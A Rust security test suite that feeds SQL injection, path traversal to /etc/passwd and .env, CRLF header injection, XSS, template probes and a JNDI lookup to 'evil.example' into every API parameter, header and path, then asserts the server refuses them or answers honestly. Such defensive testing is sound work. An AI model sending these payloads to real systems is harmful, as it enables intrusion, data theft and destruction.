//! Tricks in every parameter of every operation: SQL, paths, numbers beyond their types, lines for headers,
//! cursors that no page ended with. The answer is a refusal, or an honest one: a text is looked for as it is,
//! and nothing else is found by it.

use api::openapi;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use futures_util::{StreamExt, stream};
use geo::Geo;
use http::{HeaderValue, Method};
use http_body_util::Full;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::Value;
use tempfile::TempDir;

use super::super::geo::geo_database;
use super::super::reads::selling;
use super::super::server::Answer;
use super::{AT_ONCE, Operation, Target, operations, resolved};

/// Distance between two values that one parameter gets.
const SHARE: usize = 8;

/// Name of a store, its tasks and everything else that a filter could find.
const MARK: &str = "honest";

/// Texts that match nothing, and would match all if they became a part of a statement or a pattern.
const SQL: [&str; 14] = [
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "') OR 1=1 --",
    "\\' OR 1=1 --",
    "1 OR 1=1",
    "'; DROP TABLE worker_tasks; --",
    "1; select pg_sleep(9)",
    "'||pg_sleep(9)||'",
    "' UNION select version() --",
    "$7",
    "$$x$$",
    "%",
    "_%",
    "/**/",
];

const TEXTS: [&str; 16] = [
    "",
    " ",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "file:///etc/passwd",
    "a\r\nX-Injected: 1",
    "a\0b",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "\u{202e}\u{1f600}\u{301}",
    "null",
    "[1]",
    "{\"a\":1}",
    "true",
];

const NUMBERS: [&str; 12] = [
    "-1",
    "0",
    "1.5",
    "1e9",
    "0x10",
    "+1",
    "007",
    "NaN",
    "2147483648",
    "9223372036854775807",
    "-9223372036854775808",
    "9223372036854775808",
];

const TIMES: [&str; 8] = [
    "0000-01-01T00:00:00Z",
    "0000-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59-23:59",
    "2025-02-30T00:00:00Z",
    "2016-12-31T23:59:60Z",
    "2025-01-10",
    "now",
    "infinity",
];

/// Values as they are in the target.
const RAW: [&str; 9] =
    ["%", "%zz", "%2", "%ff%fe", "%c0%ae%c0%ae%c0%af", "%2e%2e%2f%2e%2e%2f", "..;", "%252e%252e%252f", "a%00b"];

fn cursors() -> Vec<String> {
    let deep = "[".repeat(1_000);
    let inside = [
        "id<9223372036854775807",
        "id<-9223372036854775808",
        "id<' OR 1=1",
        "id<",
        "null",
        "{}",
        "[]",
        "0",
        "\"x\"",
        "1e999",
        "[1,\"a\",2]",
        "{\"number\":9223372036854775807,\"text\":\"\",\"id\":-9223372036854775808}",
        "{\"number\":0,\"text\":\"a\\u0000\",\"id\":0}",
        "{\"number\":0,\"text\":\"' OR 1=1\",\"id\":0}",
        "\u{0}",
        &deep,
    ];
    inside.iter().map(|text| URL_SAFE_NO_PAD.encode(text)).collect()
}

fn encoded(text: &str) -> String {
    utf8_percent_encode(text, NON_ALPHANUMERIC).to_string()
}

/// A place in a request into which something is put.
struct Parameter {
    operation: String,
    method: Method,
    path: String,
    name: String,
    place: String,
    kind: String,
}

fn parameters() -> Vec<Parameter> {
    let document = openapi::document();
    operations().iter().flat_map(|operation| parameters_of(&document, operation)).collect()
}

fn parameters_of(document: &Value, operation: &Operation) -> Vec<Parameter> {
    let described = operation.description["parameters"].as_array().cloned().unwrap_or_default();
    let parameter = |described: &Value| {
        let schema = resolved(document, &described["schema"]);
        let kinds = [&schema["type"], &schema["type"][0]];
        Parameter {
            operation: operation.name(),
            method: operation.method.clone(),
            path: operation.path.clone(),
            name: described["name"].as_str().unwrap().to_owned(),
            place: described["in"].as_str().unwrap().to_owned(),
            kind: kinds.iter().find_map(|kind| kind.as_str()).unwrap_or("string").to_owned(),
        }
    };
    described.iter().map(parameter).collect()
}

impl Parameter {
    /// Values of this parameter, as they are in the target.
    fn values(&self) -> Vec<String> {
        let mut values: Vec<String> = NUMBERS.iter().map(|number| encoded(number)).collect();
        // a number reads no text, so that few will do
        let texts = if self.kind == "string" { TEXTS.len() } else { 4 };
        values.extend(TEXTS.iter().take(texts).map(|text| encoded(text)));
        values.extend(RAW.map(str::to_owned));
        if self.kind == "string" {
            values.extend(TIMES.iter().map(|time| encoded(time)));
            values.push("a".repeat(5_000));
        }
        if self.name == "cursor" {
            values.extend(cursors());
        }
        values
    }

    /// The target with `value` in this place, and the operation's other requirements.
    fn target(&self, value: &str) -> String {
        let in_path = |name: &str, usual: &str| match self.place == "path" && self.name == name {
            true => value.to_owned(),
            false => usual.to_owned(),
        };
        let mut path = self.path.replace("{role}", &in_path("role", "payload_fetch"));
        path = path.replace("{ip}", &in_path("ip", "192.0.2.1")).replace("{id}", &in_path("id", "1"));
        if self.place != "query" {
            return path;
        }
        let needed = if self.path == "/api/products/search" && self.name != "q" { "q=a&" } else { "" };
        format!("{path}?{needed}{}={value}", self.name)
    }

    async fn send(&self, target: &Target, value: &str) -> Answer {
        let request = target.request(&self.method, &self.target(value));
        target.send(request.body(Full::default()).unwrap()).await
    }

    fn filters_by_text(&self) -> bool {
        self.method == Method::GET && self.place == "query" && self.kind == "string" && self.name != "cursor"
    }
}

/// Starts a server with a store, products, a task and an audit row that a filter could find by mistake; and the directory of
/// its geo database.
async fn marked() -> (Target, TempDir) {
    let (dir, path) = geo_database();
    let target = Target::with_geo(Geo::new(Some(&path))).await;
    let server = &target.server;
    selling(server).await;
    let sql = format!(
        "UPDATE dispensaries SET name = '{MARK}', slug = '{MARK}';
         UPDATE store_products SET name_raw = '{MARK}', brand_name_raw = '{MARK}', category = '{MARK}';
         INSERT INTO worker_tasks (role, dispensary_id, status, worker_id, error_message, completed_at)
         VALUES ('payload_fetch', 1, 'failed', '{MARK}', '{MARK}', now());
         INSERT INTO audit_log (who, action, target, detail, request_id) VALUES ('{MARK}', '{MARK}', '{MARK}', '{{}}', '{MARK}')"
    );
    server.database.raw.batch_execute(&sql).await.unwrap();
    db::analytics::refresh::refresh(&server.database.db).await.unwrap();
    (target, dir)
}

#[tokio::test]
async fn no_parameter_of_any_operation_is_a_way_in() {
    let (target, _geo) = marked().await;
    let target = &target;
    let parameters = parameters();
    assert!(parameters.len() >= 150, "{}", parameters.len());
    let attacked = parameters.iter().filter(|parameter| parameter.place != "header");
    // each parameter gets some of the values, and each value goes to some parameters; schemathesis tries more
    let attacks = attacked.enumerate().flat_map(|(nth, parameter)| {
        let values = parameter.values().into_iter().skip(nth % SHARE).step_by(SHARE);
        values.map(move |value| (parameter, value))
    });
    stream::iter(attacks)
        .for_each_concurrent(AT_ONCE, async |(parameter, value)| {
            let answer = parameter.send(target, &value).await;
            let what = format!("{} {}={value}", parameter.operation, parameter.name);
            assert_refused_or_answered(&what, &answer);
        })
        .await;
    let admins = "SELECT count(*) FROM api_tokens WHERE revoked_at IS NULL";
    assert_eq!(target.server.database.raw.query_one(admins, &[]).await.unwrap().get::<_, i64>(0), 1);
}

#[track_caller]
fn assert_refused_or_answered(what: &str, answer: &Answer) {
    let status = answer.status.as_u16();
    let is_refused = [400, 404, 405, 409, 410, 412, 414, 422].contains(&status);
    // few proxies are tested at once
    let is_refused = is_refused || status == 503 && what.starts_with("POST /api/proxies/{id}/test ");
    assert!(is_refused || status == 304 || answer.status.is_success(), "{what}: {status} {}", answer.text());
    assert!(!answer.headers.contains_key("x-injected"), "{what}: {:?}", answer.headers);
    assert!(!answer.text().contains("root:x:"), "{what}: {}", answer.text());
    if is_refused {
        answer.problem(status);
    }
}

#[tokio::test]
async fn a_text_that_looks_like_sql_finds_what_it_says_which_is_nothing() {
    let (target, _geo) = marked().await;
    let target = &target;
    let filters: Vec<Parameter> = parameters().into_iter().filter(Parameter::filters_by_text).collect();
    let attacks = filters.iter().flat_map(|filter| SQL.iter().map(move |text| (filter, *text)));
    stream::iter(attacks)
        .for_each_concurrent(AT_ONCE, async |(filter, text)| {
            let answer = filter.send(target, &encoded(text)).await;
            let what = format!("{} {}={text}", filter.operation, filter.name);
            assert_refused_or_answered(&what, &answer);
            let is_found = answer.status.is_success() && answer.text().contains(MARK);
            assert!(!is_found, "{what} found {}", answer.text());
        })
        .await;
    for (table, rows) in [("dispensaries", 1), ("worker_tasks", 1)] {
        assert_eq!(target.count(table).await, rows, "{table}");
    }
    assert!(target.get("/api/tasks").await.text().contains(MARK), "without a filter it is there");
}

#[tokio::test]
async fn no_header_that_an_operation_reads_is_a_way_in() {
    let (target, _geo) = marked().await;
    let values = SQL.iter().chain(&NUMBERS).map(|text| text.as_bytes().to_vec());
    let values: Vec<Vec<u8>> =
        values.chain([b"".to_vec(), b"\xff\xfe".to_vec(), vec![b'x'; 5_000], b"W/\"1\", *, \"".to_vec()]).collect();
    for (method, path, header) in [
        (Method::GET, "/api/tasks/1", "if-none-match"),
        (Method::PUT, "/api/tasks/1", "if-match"),
        (Method::POST, "/api/tasks/1/cancel", "idempotency-key"),
        (Method::GET, "/api/events", "last-event-id"),
        (Method::GET, "/api/stores", "x-forwarded-for"),
        (Method::GET, "/api/stores", "accept"),
        (Method::GET, "/api/stores", "accept-encoding"),
        (Method::GET, "/api/stores", "range"),
        (Method::GET, "/api/stores", "cookie"),
        (Method::GET, "/api/stores", "x-request-id"),
        (Method::GET, "/api/stores", "user-agent"),
        (Method::GET, "/api/stores", "forwarded"),
    ] {
        for value in &values {
            let request = target.request(&method, path).header(header, HeaderValue::from_bytes(value).unwrap());
            let body = if method == Method::PUT { "{\"priority\":3}" } else { "" };
            let answer = target.send(request.body(Full::from(body)).unwrap()).await;
            assert_refused_or_answered(&format!("{method} {path} {header}: {value:?}"), &answer);
        }
    }
}

#[tokio::test]
async fn a_path_that_climbs_or_is_written_otherwise_leads_nowhere_else() {
    let (target, _geo) = marked().await;
    for path in [
        "/../etc/passwd",
        "/api/../../etc/passwd",
        "/api/tasks/../tokens",
        "/api/tasks/..%2ftokens",
        "/api/tasks/%2e%2e/tokens",
        "/api//tokens",
        "//api/tokens",
        "/api/tokens/",
        "/api/tokens;x=1",
        "/api/tokens%20",
        "/api/tokens%00",
        "/API/tokens",
        "/api/Tokens",
        "/api/%74okens%2f1",
        "/%61pi%2ftokens",
        "/api/tokens.json",
        "/.env",
        "/.git/config",
        "/config/default.toml",
        "/img/../config/default.toml",
        "/debug/pprof",
        "/admin%2f..%2fapi/tokens",
        "/ui/any/../../config/default.toml",
        "/ui/any/..%2f..%2fconfig%2fdefault.toml",
        "/ui/any/index.html",
        "/server-status",
        "/api/payloads/1/data/../../../../etc/passwd",
    ] {
        let answer = target.get(path).await;
        let status = answer.status.as_u16();
        assert!([400, 404, 405].contains(&status), "{path}: {status} {}", answer.text());
        answer.problem(status);
    }
}
